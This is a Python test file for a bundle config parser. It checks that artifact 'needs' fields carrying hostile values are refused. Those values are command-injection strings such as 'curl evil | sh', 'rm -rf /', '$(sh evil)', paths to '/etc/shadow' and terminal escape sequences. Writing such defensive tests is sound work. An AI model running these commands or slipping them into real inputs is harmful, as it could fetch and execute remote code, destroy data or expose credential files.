"""What an artifact says that it needs, read as what a hostile bundle may say."""

from __future__ import annotations

import time

import msgspec
import pytest

from edgefn.bundle.config import ArtifactEntry, BundleConfig, ModelEntry
from edgefn.bundle.documents import parse_config
from edgefn.errors import BundleError
from edgefn.spec import FunctionSpec, ModelSpec, TensorSpec
from edgefn.targets.needs import Needs
from edgefn.targets.profiles import needs_of, targets

MODEL = ModelEntry(ModelSpec("m", {"x": TensorSpec("float32", (1,))}))

HOSTILE = {
    "a command in the versions": Needs(library="torch", versions=">=2'; curl evil | sh; '"),
    "a command as a library": Needs(library="torch; rm -rf /"),
    "an option as a library": Needs(library="--index-url=http://evil"),
    "a path as a library": Needs(library="../../etc"),
    "an escape sequence": Needs(accelerator="\x1b]0;title\x07"),
    "a line of its own": Needs(accelerator="NPU\nrun this: sh evil"),
    "a command as an accelerator": Needs(accelerator="$(sh evil)"),
    "a device elsewhere": Needs(device="/dev/../etc/shadow"),
    "a device that is none": Needs(device="/etc/shadow"),
    "a feature": Needs(features=("avx2; sh",)),
    "endless features": Needs(features=tuple(f"f{number}" for number in range(1000))),
    "an architecture": Needs(arch="x86_64 && sh"),
}


def _config(*needs: Needs) -> bytes:
    artifacts = tuple(ArtifactEntry("m", f"t{n}/fp32", "onnxruntime", needs=need) for n, need in enumerate(needs))
    return msgspec.json.encode(BundleConfig(FunctionSpec("f", "f:f"), (MODEL,), artifacts))


@pytest.mark.parametrize("needs", HOSTILE.values(), ids=HOSTILE)
def test_needs_that_no_profile_has_are_refused(needs: Needs) -> None:
    """They are told to people as what to do: nothing in them is a command, a line or a path of its own."""
    with pytest.raises(BundleError, match="artifacts/m/t0-fp32"):
        parse_config(_config(needs))


def test_needs_of_profiles_are_taken() -> None:
    """Those of each profile that there is, and of a project's own."""
    own = Needs("riscv64", ("v", "zba"), "Kendryte KPU (K230)", "/dev/dri/renderD128", "nncase-kpu", ">=2.9,<3.0")
    parse_config(_config(own, *map(needs_of, targets().values())))


def test_many_artifacts_are_read_in_no_time() -> None:
    """A config of nearly the largest size is checked while requests wait: not by each against each."""
    data = _config(*(Needs() for _ in range(20_000)))
    started = time.perf_counter()
    parse_config(data)
    assert time.perf_counter() - started < 5.0
